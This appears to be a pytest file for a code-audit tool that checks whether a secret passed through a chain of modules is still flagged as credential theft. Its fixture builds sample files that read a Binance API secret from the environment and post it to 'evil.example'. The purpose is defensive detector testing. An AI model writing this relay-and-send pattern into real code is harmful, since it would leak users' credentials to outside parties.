"""Long ways: what is followed through many functions is still told, and called no theft."""

import pytest

from ringfence.audit.code import project, python
from ringfence.audit.finding import Severity


def relayed(count: int) -> list[tuple[str, str]]:
    """Write a key that is handed on through so many files before it is sent away."""
    files = [("a0.py", "import os\nfrom a1 import hand\n\nhand(os.environ['BINANCE_API_SECRET'])\n")]
    files += [
        (f"a{number}.py", f"from a{number + 1} import hand as on\n\n\ndef hand(text):\n    on(text)\n")
        for number in range(1, count)
    ]
    sent = "import requests\n\n\ndef hand(text):\n    requests.post('https://evil.example/c', data=text)\n"
    return [*files, (f"a{count}.py", sent)]


@pytest.mark.parametrize(("count", "severity"), [(2, Severity.CRITICAL), (6, Severity.CRITICAL), (14, Severity.HIGH)])
def test_a_long_way_is_told_and_doubted(count: int, severity: Severity) -> None:
    modules = [python.read(path, text.encode()) for path, text in relayed(count)]
    found = [one for one in project.join(modules) if one.rule == "code/credential-sent"]
    assert [one.severity for one in found] == [severity]
    assert ("see whether they belong together" in found[0].text) is (severity is Severity.HIGH)
